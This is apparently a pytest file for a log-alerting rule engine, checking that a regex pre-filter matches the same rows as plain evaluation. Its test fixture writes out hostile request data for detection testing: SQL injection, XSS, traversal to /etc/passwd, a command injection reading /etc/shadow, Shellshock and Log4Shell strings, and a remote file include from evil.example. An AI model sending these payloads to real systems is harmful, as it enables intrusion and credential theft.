"""The per-field pre-filter is only a shortcut: every rule matches exactly the rows it matches without it."""

from __future__ import annotations

import numpy as np
import pytest

from alerts.conditions import BatchView
from alerts.normalize import NormalizeCache
from alerts.observe import Observer
from parsers.files import parse_file
from pipelines.read import open_raw
from tests.alerts.events import access, batch

TRICKY = [
    access(0, url="/item?id=1%27%20OR%20%271%27=%271"),
    access(1, url="/search?q=%3Cscript%3Ealert(1)%3C/script%3E", http_request_referrer="javascript:alert(1)"),
    access(2, url="/a/..%c0%af..%c0%afetc/passwd"),
    access(3, url="/ping?host=127.0.0.1;cat%20/etc/shadow", agent="() { :; }; /bin/bash -c id"),
    access(4, url="/", agent="${jndi:ldap://x.example/a}"),
    access(5, url="/admin/login", method="POST", status=403),
    access(6, url="/wp-login.php", method="POST"),
    access(7, url="/phpmyadmin/index.php", status=404),
    access(8, url="/.env", status=404),
    access(9, url="/uploads/c99.php", status=404),
    access(10, url="/static/app.js", status=404),
    access(11, url="http://other.example/", status=400),
    access(12, url="/index.php?page=http://evil.example/shell.txt?"),
    access(13, url="/signup", method="POST", agent="sqlmap/1.7.2#stable (https://sqlmap.org)"),
    access(14, url="/blog/how-to-select-a-laptop-from-our-range"),
    access(15, url="/", agent="Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
]


def masks(observer: Observer, events, prefiltered: bool) -> dict[str, np.ndarray]:
    view = BatchView(events, NormalizeCache(), observer.prefilters if prefiltered else None)
    return {compiled.rule.id: compiled.mask(view) for compiled in observer.rules}


def assert_same_masks(observer: Observer, events) -> None:
    plain, prefiltered = masks(observer, events, False), masks(observer, events, True)
    for rule_id, expected in plain.items():
        assert prefiltered[rule_id].tolist() == expected.tolist(), rule_id


def test_the_pre_filter_joins_the_request_patterns(default_rules):
    observer = Observer(default_rules, "access")
    assert ("url_original", True) in observer.prefilters
    view = BatchView(batch(TRICKY), NormalizeCache(), observer.prefilters)
    values, _ = view.distinct("url_original", True)
    assert 0 < len(view.candidates("url_original", True)) < len(values)  # benign URLs are filtered out


def test_pre_filtered_masks_equal_plain_masks_on_attacks(default_rules):
    observer = Observer(default_rules, "access")
    plain = masks(observer, batch(TRICKY), False)
    assert sum(mask.any() for mask in plain.values()) >= 10  # the batch exercises most rules
    assert_same_masks(observer, batch(TRICKY))


def test_pre_filtered_masks_equal_plain_masks_on_real_traffic(default_rules, corpora):
    observer = Observer(default_rules, "access")
    results = list(parse_file(open_raw, str(corpora / "elastic-examples/apache_logs/apache_logs"), "auto"))
    assert results
    for result in results:
        assert_same_masks(observer, result.events)


@pytest.mark.parametrize("dataset", ["access", "error"])
def test_every_pre_filter_compiles(default_rules, dataset):
    observer = Observer(default_rules, dataset)
    for (field, _), pattern in observer.prefilters.items():
        assert field and pattern.pattern.startswith("(?:")


def test_conditions_on_a_subset_of_rows_match_the_whole_batch(default_rules, monkeypatch):
    observer = Observer(default_rules, "access")
    monkeypatch.setattr("alerts.conditions.SUBSET_SHARE", 0.0)  # never a subset
    whole = masks(observer, batch(TRICKY), True)
    monkeypatch.setattr("alerts.conditions.SUBSET_SHARE", 1.0)  # always a subset after the first condition
    subset = Observer(default_rules, "access")
    for rule_id, mask in masks(subset, batch(TRICKY), True).items():
        assert mask.tolist() == whole[rule_id].tolist(), rule_id
